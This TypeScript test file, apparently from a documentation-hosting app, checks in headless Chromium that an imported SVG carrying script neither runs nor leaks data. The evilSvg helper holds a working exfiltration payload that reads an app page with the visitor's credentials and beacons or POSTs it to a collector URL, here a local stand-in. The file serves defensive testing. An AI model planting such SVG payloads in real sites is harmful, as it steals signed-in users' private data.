/// <reference lib="dom" />
import { existsSync } from 'node:fs';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { join } from 'node:path';
import { pathToFileURL } from 'node:url';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Browser, Page } from 'puppeteer-core';
import { api, startServer, tempDir, type TestServer } from '../../helpers/server.js';
import { PNG, writeTree } from '../../helpers/sync-folder.js';

/*
 * An imported SVG that carries script, opened by a signed-in member in Debian's chromium:
 * directly, through the file link of a published page, and as an image of that page. Its script
 * tries to read an app page (the organization's, which names its spaces) and send it to a
 * collector on this machine; nothing may arrive, and the image must still show.
 */

const CHROMIUM = '/usr/bin/chromium';
const haveChromium = existsSync(CHROMIUM);

let s: TestServer;
let tmp: ReturnType<typeof tempDir>;
let browser: Browser;
let collector: Server;
const collected: string[] = [];
let svgUrl: string;
let pageUrl: string;

/** The script's payload: read an app page with the visitor's session and send it away. */
const evilSvg = (collect: string, org: string) => `<svg xmlns="http://www.w3.org/2000/svg" width="40" height="40" viewBox="0 0 40 40">
<rect width="40" height="40" fill="#c00"/>
<script>
fetch('/app/o/${org}', { credentials: 'include' }).then((r) => r.text()).then((t) => {
  new Image().src = '${collect}/?d=' + encodeURIComponent(t.slice(0, 500));
  fetch('${collect}/fetch', { method: 'POST', mode: 'no-cors', body: t });
}, (e) => { new Image().src = '${collect}/?error=' + encodeURIComponent(String(e)); });
new Image().src = '${collect}/?ran=1';
</script>
</svg>`;

beforeAll(async () => {
  if (!haveChromium) return;
  collector = createServer((req, res) => {
    collected.push(req.url ?? '');
    res.end('ok');
  });
  await new Promise<void>((r) => collector.listen(0, '127.0.0.1', r));
  const collect = `http://127.0.0.1:${(collector.address() as AddressInfo).port}`;
  s = await startServer();
  tmp = tempDir('gbctl-blob-browser-');
  // A private space whose title the attack would read off the organization's page.
  await api(s, 'POST', `/orgs/${s.org}/spaces`, { title: 'Private plans' });
  const root = writeTree(join(tmp.dir, 'docs'), {
    'README.md':
      '# Home\n\n![diagram](.gitbook/assets/diagram.svg)\n\n![dot](.gitbook/assets/dot.png)\n\nSee [the diagram file](.gitbook/assets/diagram.svg).\n',
    '.gitbook/assets/diagram.svg': evilSvg(collect, s.org),
    '.gitbook/assets/dot.png': PNG,
  });
  const space = (await api(s, 'POST', `/orgs/${s.org}/spaces`, { title: 'Docs' })).body.id as string;
  const imp = await api(s, 'POST', `/spaces/${space}/content/import`, { url: pathToFileURL(root).href, source: 'markdown' });
  expect(imp.status, JSON.stringify(imp.body)).toBe(201);
  const site = (await api(s, 'POST', `/orgs/${s.org}/sites`, { title: 'Docs', visibility: 'public', spaces: [space] })).body;
  pageUrl = (await api(s, 'POST', `/orgs/${s.org}/sites/${site.id}/publish`)).body.urls.published as string;
  const { launch } = await import('puppeteer-core');
  browser = await launch({ executablePath: CHROMIUM, headless: true, args: ['--no-sandbox', '--disable-gpu', '--disable-dev-shm-usage'] });
}, 60_000);

afterAll(async () => {
  if (!haveChromium) return;
  await browser?.close();
  await s.stop();
  await new Promise<void>((r) => collector.close(() => r()));
  tmp.cleanup();
});

/** A tab of a member signed in through the form, downloads refused. */
async function signedInTab(): Promise<{ page: Page; dialogs: string[] }> {
  const page = await browser.newPage();
  const dialogs: string[] = [];
  page.on('dialog', (d) => {
    dialogs.push(d.message());
    void d.dismiss();
  });
  const cdp = await page.createCDPSession();
  await cdp.send('Browser.setDownloadBehavior', { behavior: 'deny' });
  await page.goto(`${s.url}/app/~/sign-in`, { waitUntil: 'load' });
  await page.type('input[name="token"]', s.token);
  await Promise.all([page.waitForNavigation(), page.click('button[type="submit"]')]);
  expect(await page.$eval('main', (m) => m.textContent)).toContain('Organizations');
  return { page, dialogs };
}

const settle = () => new Promise((r) => setTimeout(r, 500));

describe.skipIf(!haveChromium)('an imported SVG with script, in a real browser', () => {
  it('shows as an image in the page, and its script neither runs nor reads an app page', async () => {
    const { page, dialogs } = await signedInTab();
    await page.goto(pageUrl, { waitUntil: 'load' });
    const images = await page.$$eval('article img', (imgs) => imgs.map((i) => ({ src: (i as HTMLImageElement).src, w: (i as HTMLImageElement).naturalWidth })));
    expect(images).toHaveLength(2);
    for (const i of images) expect(i.w, i.src).toBeGreaterThan(0);
    svgUrl = images.find((i) => i.w === 40)?.src as string;
    expect(svgUrl).toMatch(/\/_gbctl\/blobs\//);
    await settle();
    expect(collected).toEqual([]);
    expect(dialogs).toEqual([]);
    await page.close();
  });

  it("opened through the page's file link, runs no script", async () => {
    const { page, dialogs } = await signedInTab();
    await page.goto(pageUrl, { waitUntil: 'load' });
    const link = await page.$('article a[href*="/_gbctl/blobs/"]');
    expect(link).not.toBeNull();
    await link?.click();
    await settle();
    expect(collected).toEqual([]);
    expect(dialogs).toEqual([]);
    await page.close();
  });

  it('opened directly (address bar), runs no script, and no session cookie goes with it', async () => {
    const { page, dialogs } = await signedInTab();
    const cookies: string[] = [];
    page.on('request', (r) => {
      if (r.url().includes('/_gbctl/blobs/')) cookies.push(r.headers().cookie ?? '');
    });
    const res = await page.goto(svgUrl, { waitUntil: 'load' }).catch((e: Error) => e);
    await settle();
    expect(collected).toEqual([]);
    expect(dialogs).toEqual([]);
    // Chromium either downloads it (the navigation aborts) or shows it sandboxed; never as a page of this origin.
    if (!(res instanceof Error)) expect(res?.headers()['content-security-policy']).toContain('sandbox');
    expect(cookies.length).toBeGreaterThan(0);
    expect(cookies.every((c) => !c.includes('gbctl_token'))).toBe(true);
    // The session is still there for the app's pages.
    await page.goto(`${s.url}/app/o/${s.org}`, { waitUntil: 'load' });
    expect(await page.$eval('main', (m) => m.textContent)).toContain('Private plans');
    await page.close();
  });
});
